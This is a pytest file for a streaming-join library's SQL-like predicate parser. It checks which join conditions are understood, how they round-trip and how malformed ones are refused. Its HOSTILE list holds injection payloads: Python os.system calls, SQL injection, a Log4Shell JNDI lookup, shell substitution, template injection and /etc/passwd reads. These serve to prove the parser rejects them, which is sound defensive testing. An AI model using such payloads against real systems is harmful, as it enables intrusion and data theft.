"""The text form of predicates: what is understood, that it comes back, and what is refused."""

from __future__ import annotations

from datetime import date, datetime, time, timedelta, timezone
from decimal import Decimal

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from streamjoin_ds.errors import ColumnError, PredicateError, PredicateSyntaxError, StreamJoinError
from streamjoin_ds.spec import Band, Column, Join, Stream, band, bind, equal, not_equal
from streamjoin_ds.spec.expression.parser import parse_condition, parse_predicates
from streamjoin_ds.spec.expression.predicate import Bound
from streamjoin_ds.spec.expression.tree import Call, Literal, Predicate, call

X, Y = Column("e", "x"), Column("w", "x")
S = Column("e", "s")
SECOND = timedelta(seconds=1)


@pytest.mark.parametrize(
    ("text", "predicate"),
    [
        ("abs(e.x - w.x) <= 10", Band(X, Y, -10, 10)),
        ("ABS((e.x) - (w.x)) <= (10)", Band(X, Y, -10, 10)),
        ("10 >= abs(e.x - w.x)", Band(X, Y, -10, 10)),
        ("abs(w.x - e.x) <= 10", Band(Y, X, -10, 10)),
        ("abs(e.x - w.x) <= 1e-1", Band(X, Y, Decimal("-0.1"), Decimal("0.1"))),
        ("abs(e.x - w.x) <= .5", Band(X, Y, Decimal("-0.5"), Decimal("0.5"))),
        ("abs(e.x - w.x) <= +5.0", Band(X, Y, -5, 5)),
        ("abs(e.x - w.x) <= -0", Band(X, Y, 0, 0)),
        ("abs(e.x - w.x) <= - - 3", Band(X, Y, -3, 3)),
        ("abs(e.x - w.x) <= 9223372036854775807", Band(X, Y, -(2**63) + 1, 2**63 - 1)),
        ("abs(e.x - w.x) <= 1e300", Band(X, Y, Decimal("-1e300"), Decimal("1e300"))),
        ("e.x - w.x BETWEEN -5 AND 10", Band(X, Y, -5, 10)),
        ("e.x BETWEEN w.x - 3 AND w.x + 4.5", Band(X, Y, -3, Decimal("4.5"))),
        ("w.x BETWEEN e.x AND 2 + e.x", Band(Y, X, 0, 2)),
        ("e.x = w.x", equal(X, Y)),
        ("e.x == w.x", equal(X, Y)),
        ("e.x =\n\tw.x ;", equal(X, Y)),
        ("e.x <> w.x", not_equal(X, Y)),
        ("e.x != w.x", not_equal(X, Y)),
        ("NOT (e.x = w.x)", Call("not", (Call("=", (X, Y)),))),
        ("((e.x = w.x))", equal(X, Y)),
        ("e.x BETWEEN w.x AND w.x + 0", equal(X, Y)),
        ("e.x - w.x BETWEEN 0 AND 0", Band(X, Y, 0, 0)),
        ("abs(e.x - w.x) <= INTERVAL 5 SECONDS", Band(X, Y, -5 * SECOND, 5 * SECOND)),
        ("abs(e.x - w.x) <= INTERVAL '5' SECOND", Band(X, Y, -5 * SECOND, 5 * SECOND)),
        ("abs(e.x - w.x) <= INTERVAL '5 seconds'", Band(X, Y, -5 * SECOND, 5 * SECOND)),
        ("abs(e.x - w.x) <= INTERVAL '1h 30m'", Band(X, Y, -5400 * SECOND, 5400 * SECOND)),
        ("abs(e.x - w.x) <= INTERVAL 1 HOUR 30 MINUTES", Band(X, Y, -5400 * SECOND, 5400 * SECOND)),
        ("abs(e.x - w.x) <= interval 1.5 second", Band(X, Y, -1.5 * SECOND, 1.5 * SECOND)),
        ("e.x - w.x BETWEEN -INTERVAL 5 SECONDS AND INTERVAL '-1' SECOND", Band(X, Y, -5 * SECOND, -SECOND)),
        ("e.x - w.x BETWEEN INTERVAL -5 SECONDS AND 0", Band(X, Y, -5 * SECOND, timedelta(0))),
        ("e.x BETWEEN w.x - INTERVAL 1 HOUR 30 MINUTES AND w.x", Band(X, Y, -5400 * SECOND, timedelta(0))),
        ("abs(e.x - w.x) <= INTERVAL 1 WEEK", Band(X, Y, -7 * 86400 * SECOND, 7 * 86400 * SECOND)),
        ('e.`PM2.5` = w."PM2.5"', equal("e.PM2.5", "w.PM2.5")),
        ("e.order = w.timestamp", equal("e.order", "w.timestamp")),
        ("e.`a b` <> w.`c``d`", not_equal(Column("e", "a b"), Column("w", "c`d"))),
        ("e.X = w.x", equal("e.X", Y)),
        ("abs(e.x - w.x) <= 1 + 2", Band(X, Y, -3, 3)),
        ("e.x > w.x", call(">", X, Y)),
        ("abs(e.x - w.x) >= 3", call(">=", call("abs", call("-", X, Y)), Literal(3))),
        ("e.x - w.x <= 3", call("<=", call("-", X, Y), Literal(3))),
        ("abs(e.x + w.x) <= .3", call("<=", call("abs", call("+", X, Y)), Literal(Decimal("0.3")))),
        ("abs(e.x - e.y) <= 3", call("<=", call("abs", call("-", X, Column("e", "y"))), Literal(3))),
        ("abs(e.x - w.x) <= w.y", call("<=", call("abs", call("-", X, Y)), Column("w", "y"))),
        ("abs(e.x - w.x) <= NULL", call("<=", call("abs", call("-", X, Y)), Literal(None))),
        ("e.x = 3", call("=", X, Literal(3))),
        ("e.x = 'it''s'", call("=", X, Literal("it's"))),
        ("e.x = TRUE", call("=", X, Literal(True))),
        ("e.x = w.x + 1", call("=", X, call("+", Y, Literal(1)))),
        ("e.x = w.x OR e.x IS NULL", call("or", call("=", X, Y), call("is_null", X))),
        ("e.x = 1 OR e.x = 2 OR w.x = 3", call("or", *(call("=", c, Literal(n)) for c, n in ((X, 1), (X, 2), (Y, 3))))),
        ("e.x IS NOT NULL", call("not", call("is_null", X))),
        ("e.x IN (1, w.x)", call("in", X, Literal(1), Y)),
        ("e.x NOT IN (-1)", call("not", call("in", X, Literal(-1)))),
        ("NOT e.x <> w.x", call("not", call("<>", X, Y))),
        ("e.x NOT BETWEEN w.x AND 4", call("not", call("between", X, Y, Literal(4)))),
        ("e.x BETWEEN 1 - w.x AND w.x", call("between", X, call("-", Literal(1), Y), Y)),
        (
            "e.x * 2 / w.x % 3 = -w.x",
            call("=", call("%", call("/", call("*", X, Literal(2)), Y), Literal(3)), call("neg", Y)),
        ),
        (
            "e.x > TIMESTAMP '2024-02-29 12:00:00'",
            call(">", X, Literal(datetime(2024, 2, 29, 12, tzinfo=timezone.utc))),
        ),
        (
            "e.x > TIMESTAMP '2024-02-29T12:00:00+01:00'",
            call(">", X, Literal(datetime(2024, 2, 29, 11, tzinfo=timezone.utc))),
        ),
        ("e.x > DATE '2024-02-29'", call(">", X, Literal(date(2024, 2, 29)))),
        ("e.x > TIME '12:30'", call(">", X, Literal(time(12, 30)))),
        ("e.x > TIME '12:30:00.000001'", call(">", X, Literal(time(12, 30, 0, 1)))),
        ("e.x - w.x > INTERVAL 1 MINUTE", call(">", call("-", X, Y), Literal(60 * SECOND))),
        ("e.s LIKE 'a%' ESCAPE '!'", call("like", Column("e", "s"), Literal("a%"), Literal("!"))),
        ("e.s NOT LIKE w.s", call("not", call("like", Column("e", "s"), Column("w", "s")))),
        ("e.s || w.s || 'x' = 'a'", call("=", call("concat", S, Column("w", "s"), Literal("x")), Literal("a"))),
        ("e.x::int = Ceiling(w.x)", call("=", call("cast", X, Literal("int")), call("ceil", Y))),
        ("e.x = CAST('3' AS DECIMAL)", call("=", X, call("cast", Literal("3"), Literal("decimal(10, 0)")))),
        ("CASE e.x WHEN 1 THEN w.x > 1 END", call("case", call("=", X, Literal(1)), call(">", Y, Literal(1)))),
        ("IF(e.x > 1, TRUE, e.x = 0)", call("case", call(">", X, Literal(1)), Literal(True), call("=", X, Literal(0)))),
        ("extract(Hour FROM e.x) = 1", call("=", call("extract", Literal("hour"), X), Literal(1))),
        ("e.x", X),
        ("true", Literal(True)),
    ],
)
def test_understood(text: str, predicate: Predicate) -> None:
    assert parse_predicates(text) == (predicate,)


@pytest.mark.parametrize("text", ["abs(e.x - w.x) < 3", "3 > abs(e.x - w.x)"])
def test_a_strict_width_finds_by_the_band_and_decides_by_itself(text: str) -> None:
    finds, decides = parse_predicates(text)
    assert finds == Band(X, Y, -3, 3)
    assert isinstance(decides, Call)
    assert decides.op in "<>"


@pytest.mark.parametrize("text", ["x > 3", "e.x > 3", '"x" > 3'])
def test_a_condition_of_one_stream_need_not_name_it(text: str) -> None:
    assert parse_condition(text, "e") == call(">", X, Literal(3))


def test_in_a_condition_of_one_stream_any_other_name_is_a_path() -> None:
    assert parse_condition("x > 3 AND w.x > 3", "e") == parse_condition("e.x > 3 AND e.w.x > 3")


def test_conjunctions_keep_their_order() -> None:
    texts = [f"abs(e.c{n} - w.c{n}) <= {n + 1}" for n in range(6)]
    expected = tuple(band(f"e.c{n}", f"w.c{n}", n + 1) for n in range(6))
    assert parse_predicates(" AND ".join(texts)) == expected
    assert parse_predicates(f"({texts[0]} AND ({texts[1]} AND {texts[2]})) AND {' AND '.join(texts[3:])}") == expected
    assert parse_predicates(texts) == expected


def test_a_long_conjunction() -> None:
    text = " AND ".join(["e.x = w.x"] * 700)
    assert len(parse_predicates(text)) == 700


columns = st.builds(
    Column,
    st.just("e"),
    st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Cf"]), min_size=1, max_size=8),
)
numbers = (
    st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.decimals(allow_nan=False, allow_infinity=False, places=6)
    | st.timedeltas(timedelta(days=-9999), timedelta(days=9999))
)


@given(columns, columns.map(lambda c: Column("w", c.name)), numbers, numbers)
def test_what_is_printed_is_read_again(left: Column, right: Column, one: Bound, other: Bound) -> None:
    if isinstance(one, timedelta) != isinstance(other, timedelta):
        other = one
    lo, hi = sorted((one, other))  # type: ignore[type-var]
    for predicate in (Band(left, right, lo, hi), not_equal(left, right)):
        (read,) = parse_predicates(str(predicate))
        if not isinstance(read, Band):
            assert read == predicate
        else:
            assert (read.left, read.right) == (left, right)
            for was, found in ((lo, read.lo), (hi, read.hi)):
                # A float is printed as its shortest exact decimal, and read as that decimal.
                assert type(was)(found) == was if isinstance(was, float) else found == was


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("", "not one SQL condition"),
        ("   ", "not one SQL condition"),
        ("-- e.x = w.x", "not one SQL condition"),
        ("e.x = w.x -- AND e.y = w.y", "comment"),
        ("e.x = w.x /* AND e.y = w.y */", "comment"),
        ("e.x = w.x; e.y = w.y", "not one SQL condition"),
        ("e.x = w.x AND", "not an SQL condition"),
        ("abs(e.x - w.x) <= 0x10", "condition"),
        ("abs(e.x - w.x) <= 1_000", "condition"),
        ("abs(e.x - w.x) <= INTERVAL 1 MONTH", "INTERVAL"),
        ("abs(e.x - w.x) <= INTERVAL '0:05' HOUR TO MINUTE", "INTERVAL"),
        ("abs(e.x - w.x) <= INTERVAL '5' HOUR TO MINUTE", "INTERVAL"),
        ("abs(e.x - w.x) <= INTERVAL '--5' SECOND", "INTERVAL"),
        ("e.x > TIMESTAMP 'yesterday'", "TIMESTAMP '2024-01-31 12:00:00'"),
        ("e.x > DATE '2024-02-30'", "DATE, TIMESTAMP or TIME"),
        ("e.x > TIMESTAMP '0001-01-01T00:00:00+23:00'", "DATE, TIMESTAMP or TIME"),
        ("e.x > TIME '24:00:00'", "write it like TIME '12:00:00'"),
        ("e.x > TIME '12:00:00+01:00'", "write it like TIME '12:00:00'"),
        ("e.x > CAST(e.s AS TIME)", "types are tinyint"),
        ("e.x = x", "not written as stream.column"),
        ("e.x = w.x[-1]", "in it is not supported"),
        ("e.* = w.*", "not written as stream.column"),
        ("(e.x, e.y) = (w.x, w.y)", "'(e.x, e.y)' in it is not supported"),
        ("e.x IS TRUE", "only be followed by NULL or NOT NULL"),
        ("e.x IN (SELECT x FROM w)", "a list in parentheses"),
        ("e.x IN w.x", "a list in parentheses"),
        ("e.x ^ w.x = 1", "'e.x ^ w.x' in it is not supported"),
        ("my_function(e.x) = 1", "the function 'my_function' at character 1 is not supported"),
        ("e.x = ANY (w.x)", "in it is not supported"),
        ("e.x BETWEEN SYMMETRIC w.x + 1 AND w.x", "SYMMETRIC"),
        ("e.x = (SELECT max(x) FROM w)", "'SELECT MAX(x) FROM w' in it is not supported"),
        ("e.x + w.x", "not a condition"),
        ("-e.x", "not a condition"),
        ("'true'", "not a condition"),
        ("3", "not a condition"),
        ("e.x > 1e401", "too large or too close to zero"),
        (" + ".join(["e.x"] * 70) + " > 1", "more than 64 levels deep"),
    ],
)
def test_refused_with_what_would_be_understood(text: str, why: str) -> None:
    with pytest.raises(PredicateSyntaxError) as caught:
        parse_predicates(text)
    assert why in caught.value.message
    if "^" in caught.value.hint:  # a slip, at its place: tests/spec/expression/test_slip.py
        return
    assert "abs(l.a - r.b) <= c" in caught.value.hint or "the function" in why
    assert "`PM2.5`" in caught.value.hint or "functions are abs, sqrt" in caught.value.hint


@pytest.mark.parametrize(
    "text", ["e.x BETWEEN w.x + 3 AND w.x - 3", "e.x - w.x BETWEEN 5 AND -5", "abs(e.x - w.x) <= -1"]
)
def test_an_empty_band_is_refused_and_not_turned_round(text: str) -> None:
    with pytest.raises(PredicateError, match="empty"):
        parse_predicates(text)


def test_text_and_functions_agree() -> None:
    texts = ["abs(e.x - w.x) <= 0.1", "e.x = w.x", "e.x <> w.x", "e.x - w.x BETWEEN -1 AND 2"]
    made = (
        band("e.x", "w.x", Decimal("0.1")),
        equal("e.x", "w.x"),
        not_equal("e.x", "w.x"),
        band("e.x", "w.x", lo=-1, hi=2),
    )
    assert parse_predicates(texts) == made


HOSTILE = [
    "__import__('os').system('touch /tmp/owned')",
    "exec('import os')",
    "eval('1+1')",
    "e.x = w.x; DROP TABLE matches",
    "e.x = w.x; --",
    "1=1; SELECT * FROM secrets",
    "' OR '1'='1",
    '" OR ""="',
    "e.x = w.x UNION SELECT password FROM users",
    "e.x = w.x) OR (1=1",
    "reflect('java.lang.Runtime', 'exec', 'id') = w.x",
    "java_method('java.lang.System', 'exit', 0) = w.x",
    "${jndi:ldap://evil/a} = w.x",
    "$(id) = w.x",
    "`id` = w.x",
    "{{7*7}} = w.x",
    "e.x = w.x #{system('id')}",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "f'{open(\"/etc/passwd\").read()}'",
    "e.__class__ = w.__class__()",
    "lambda: 1",
    "e.x = @@version",
    "e.x = :parameter",
    "e.x = ?",
    "sleep(10) = w.x",
    "e.x = pg_sleep(10)",
    "COPY e TO PROGRAM 'id'",
    "CREATE FUNCTION f AS 'x'",
    "SET spark.sql.x = 1",
    "ADD JAR '/tmp/x.jar'",
    "SHOW TABLES",
    "CALL system.shell('id')",
    "GRANT ALL ON e TO public",
    "e.x = w.x WITH (option = 1)",
    "e.x = w.x\x00",
    "\x00",
    "‮e.x = w.x",
    "е.x ＝ w.x",  # noqa: RUF001
    "🦆 = 🦆",
    "\ud800",
    "(" * 3000,
    "(" * 3000 + "e.x = w.x" + ")" * 3000,
    "NOT " * 2000 + "e.x = w.x",
    "abs(" * 1000 + "e.x - w.x" + ")" * 1000 + " <= 1",
    "abs(e.x - w.x) <= " + "-" * 3001 + "1",
    "abs(e.x - w.x) <= " + "9" * 9000,
    "abs(e.x - w.x) <= 1e999999999",
    "abs(e.x - w.x) <= 1e-999999999",
    "abs(e.x - w.x) <= 1e99999999999999999999",
    "e.x = w.x AND " * 5000,
    "a" * 1_000_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_refused_by_name(text: str) -> None:
    assert len(HOSTILE) >= 50
    with pytest.raises(StreamJoinError) as caught:
        parse_predicates(text)
    assert len(str(caught.value)) < 1000
    lines = str(caught.value).split("\n")
    assert len(lines) in (1, 3)  # the place of a slip stands on two more
    assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize(
    ("bars", "plain"),
    [
        ("|r.x - s.a| <= 10 AND |r.y - s.b| <= 2.5", "abs(r.x - s.a) <= 10 AND abs(r.y - s.b) <= 2.5"),
        ("2 >= | r.x - s.a |", "2 >= abs(r.x - s.a)"),
        ("|r.x| - |s.a| < 3", "abs(r.x) - abs(s.a) < 3"),
        ("r.name = '|' AND |r.x - s.a| <= 1", "r.name = '|' AND abs(r.x - s.a) <= 1"),
        ('|r.`a|b` - s."c|"| <= 1', 'abs(r.`a|b` - s."c|") <= 1'),
    ],
)
def test_bars_are_an_absolute_value(bars: str, plain: str) -> None:
    assert parse_predicates(bars) == parse_predicates(plain)


@pytest.mark.parametrize("text", ["|r.x - s.a <= 1", "r.x | s.a", "r.x | s.a | 1", "||r.x| - s.a| <= 1"])
def test_other_bars_are_refused(text: str) -> None:
    with pytest.raises(PredicateSyntaxError):
        parse_predicates(text)


@pytest.mark.parametrize("text", ["abs(u.PM2.5 - w.x) <= 1", "u.`PM2.5` > u.PM2.5 AND u.x = w.x"])
def test_a_name_with_a_dot_is_one_with_quotes_or_without(text: str) -> None:
    assert parse_predicates(text) == parse_predicates(text.replace("u.PM2.5", "u.`PM2.5`"))


def test_a_path_that_leads_to_nothing_is_refused_with_what_is_there() -> None:
    schema = pa.schema([("ts", pa.int64()), ("BME280", pa.struct([("T", pa.float64())]))])
    streams = [Stream("u", schema=schema), Stream("w", schema=schema)]
    with pytest.raises(ColumnError) as caught:
        bind(Join(streams, "abs(u.BME280.t - w.BME280.T) <= 1", "1s"), dict.fromkeys("uw", schema))
    assert caught.value.hint == "'BME280' holds T"
